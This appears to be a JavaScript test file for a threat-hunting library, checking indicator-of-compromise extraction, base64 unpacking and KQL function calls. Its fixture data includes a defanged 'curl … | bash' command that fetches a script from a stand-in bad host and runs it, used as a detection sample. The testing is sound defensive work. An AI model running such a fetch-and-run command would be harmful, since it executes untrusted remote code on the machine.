// Analysis functions through the package: on texts, tables by name, results, and in KQL.

import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import { HuntletError, open } from "huntlet";
import { bytes } from "./helpers.mjs";

const COMMANDS = [
  "Computer,CommandLine",
  "a,curl hxxp://bad[.]example[.]com/x.sh | bash",
  "b,powershell -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
  "b,ping 10.0.0.1",
  "b,",
].join("\n");

describe("analytics", () => {
  let hunt;
  before(async () => {
    hunt = await open();
    await hunt.addTable("Commands", bytes(COMMANDS));
  });

  it("lists every function with its parameters", () => {
    const all = hunt.analytics.list();
    const names = all.map((info) => info.name);
    assert.equal(new Set(names).size, names.length);
    for (const name of ["base64_unpack", "ioc_extract", "mask_df"]) assert.ok(names.includes(name), name);
    for (const info of all) {
      assert.ok(info.description.endsWith("."), info.name);
      assert.ok(info.input.length > 0, info.name);
      for (const parameter of info.parameters) assert.ok(parameter.description.endsWith("."), `${info.name}(${parameter.name})`);
    }
    assert.deepEqual(hunt.analytics.get("base64_unpack").parameters[2].choices, ["likely", "all", "none"]);
    assert.ok(hunt.analytics.find("base64").some((info) => info.name === "base64_unpack"));
    assert.throws(() => hunt.analytics.get("nope"), (error) => error instanceof HuntletError && error.code === "AN0101");
  });

  it("finds indicators in a text", async () => {
    const table = await hunt.analytics.iocs("see hxxps://evil[.]com/a and 8.8.8.8");
    assert.deepEqual(table.columns.map((column) => column.name), ["IoCType", "Observable", "SourceIndex", "Input", "Raw"]);
    assert.deepEqual(table.objects().map(({ IoCType, Observable, Raw }) => [IoCType, Observable, Raw]), [
      ["ipv4", "8.8.8.8", "8.8.8.8"],
      ["dns", "evil.com", "evil[.]com"],
      ["url", "https://evil.com/a", "hxxps://evil[.]com/a"],
    ]);
    assert.equal(table.provenance.queryName, "ioc_extract");
  });

  it("finds indicators in a table by its name and in a result", async () => {
    const pick = (table) => table.objects().map(({ IoCType, Observable, SourceIndex }) => [IoCType, Observable, SourceIndex]);
    const expected = [
      ["dns", "bad.example.com", 0],
      ["url", "http://bad.example.com/x.sh", 0],
      ["ipv4", "10.0.0.1", 2],
    ];
    assert.deepEqual(pick(await hunt.analytics.iocs("Commands", { columns: ["CommandLine"] })), expected);
    assert.deepEqual(pick(await hunt.analytics.iocs({ table: "Commands" }, { columns: "CommandLine" })), expected);
    const result = await hunt.query("Commands | where Computer == 'b'");
    assert.deepEqual(pick(await hunt.analytics.iocs(result, { columns: ["CommandLine"] })), [["ipv4", "10.0.0.1", 1]]);
  });

  it("unpacks base64", async () => {
    const { table, text } = await hunt.analytics.unpack("powershell -enc VwByAGkAdABlAC0ASABvAHMAdAA=");
    assert.equal(text, "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>Write-Host</decoded>");
    const [item] = table.objects();
    assert.deepEqual([item.decoded_string, item.encoding_type, item.reference], ["Write-Host", "utf-16", ["", "1.", "1"]]);
    const { table: rows } = await hunt.analytics.unpack("Commands", { column: "CommandLine" });
    assert.deepEqual(rows.objects().map(({ src_index, decoded_string }) => [src_index, decoded_string]), [[1, "Write-Host"]]);
  });

  it("runs in KQL", async () => {
    const table = await hunt.query("Commands | invoke ioc_extract(CommandLine) | where IoCType == 'ipv4' | project Observable, SourceIndex");
    assert.deepEqual(table.rows(), [["10.0.0.1", 2]]);
    assert.deepEqual(hunt.describe("Commands | invoke ioc_extract(CommandLine)").columns.map((column) => `${column.name}:${column.type}`), [
      "IoCType:string", "Observable:string", "SourceIndex:long", "Input:string", "Raw:string",
    ]);
    const [unknown] = hunt.check("Commands | invoke ioc_extract(CommandLin)");
    assert.equal(unknown.code, "KQ0201");
    assert.equal(unknown.hint, "did you mean `CommandLine`?");
    const [misspelt] = hunt.check("Commands | invoke ioc_extrac(CommandLine)");
    assert.equal(misspelt.hint, "did you mean `ioc_extract`?");
  });

  it("says what is wrong with arguments", async () => {
    const failure = async (run) => {
      try {
        await run();
      } catch (error) {
        return `${error.code} ${error.message}`;
      }
      return "none";
    };
    assert.equal(await failure(() => hunt.analytics.run("ioc_extract", "Commands")), "AN0102 `ioc_extract` needs `columns`.");
    assert.equal(await failure(() => hunt.analytics.run("ioc_extract", "Commands", { columns: ["x"] })), "AN0201 `columns`: the table has no column `x`.");
    assert.equal(await failure(() => hunt.analytics.run("ioc_extract", "t", { colour: 1 })), "AN0104 `ioc_extract` has no parameter `colour`.");
    assert.equal(await failure(() => hunt.analytics.run("cmd_speed", { text: "x" })), "AN0105 `cmd_speed` takes a table and got a text.");
    assert.equal(await failure(() => hunt.analytics.iocs({ table: "Nothing" })), "PK0011 There is no table `Nothing`.");
  });

  it("can be stopped", async () => {
    const stopped = new AbortController();
    stopped.abort();
    await assert.rejects(hunt.analytics.iocs("x", {}, { signal: stopped.signal }), { name: "AbortError" });
  });
});
